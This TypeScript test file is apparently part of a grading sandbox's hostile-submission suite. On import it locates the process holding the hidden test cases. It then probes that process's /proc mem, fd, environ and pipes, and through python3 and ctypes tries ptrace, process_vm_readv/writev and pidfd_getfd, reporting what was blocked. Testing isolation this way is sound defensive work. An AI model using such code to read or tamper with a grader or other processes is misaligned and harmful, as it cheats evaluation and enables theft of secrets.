// Hostile submission 'reads-the-cases-process' for recorded mode in TypeScript (tests/hostile/node/README.md).
// The partial sample's code (examples/url-router/partial), then the attack.


// ---- the attack ----------------------------------------------------------------------------
// Goes for the process of the hidden cases, which holds the recorder and its pipe to the
// runner, with everything a process of the same user may try: finds it by its command line,
// then, at import, tries its /proc files (mem, fd, environ, maps, stack, its pipes by path),
// and, through python3 and ctypes (the image has both), ptrace(ATTACH), process_vm_readv,
// process_vm_writev and pidfd_getfd of its descriptors. Prints what each got.
import * as childProcess from "child_process";
import * as fs from "fs";

const casesPid = fs.readdirSync("/proc").find((entry) => {
  try {
    return /^\d+$/.test(entry) && entry !== String(process.pid) &&
      fs.readFileSync(`/proc/${entry}/cmdline`, "utf8").includes('"records"');
  } catch {
    return false;
  }
});
const tried: Record<string, string> = {};
const attempt = (name: string, action: () => unknown) => {
  try {
    action();
    tried[name] = "OPENED";
  } catch (error) {
    tried[name] = `blocked (${(error as NodeJS.ErrnoException).code})`;
  }
};
if (casesPid !== undefined) {
  const at = `/proc/${casesPid}`;
  attempt("mem", () => fs.closeSync(fs.openSync(`${at}/mem`, "r+")));
  attempt("fd", () => fs.readdirSync(`${at}/fd`));
  attempt("environ", () => fs.readFileSync(`${at}/environ`));
  attempt("maps", () => fs.readFileSync(`${at}/maps`));
  attempt("stack", () => fs.readFileSync(`${at}/stack`));
  for (let fd = 3; fd < 12; fd += 1) {
    attempt(`fd/${fd}`, () => fs.closeSync(fs.openSync(`${at}/fd/${fd}`, "w")));
  }
  const script = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
def said(name, result):
    print(name, "OPENED" if result >= 0 else "blocked (%s)" % os.strerror(ctypes.get_errno()))
said("ptrace", libc.ptrace(16, pid, 0, 0))
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 64)
start = int(open("/proc/self/maps").read().split("-")[0], 16)
remote = Iovec(start, 64)
said("process_vm_readv", libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
said("process_vm_writev", libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
pidfd = libc.syscall(434, pid, 0)
said("pidfd_open", pidfd)
for fd in range(3, 12):
    said("pidfd_getfd %d" % fd, libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 else -1)
`;
  try {
    const printed = childProcess.execFileSync("python3", ["-c", script, casesPid],
                                              { encoding: "utf8", timeout: 1500 });
    for (const line of printed.trim().split("\n")) {
      const [name, ...rest] = line.split(" ");
      tried[name === "pidfd_getfd" ? `${name} ${rest.shift()}` : name] = rest.join(" ");
    }
  } catch (error) {
    tried.python = String(error).slice(0, 200);
  }
}
console.log(`cases process ${casesPid ?? "not found"}:`, JSON.stringify(tried));
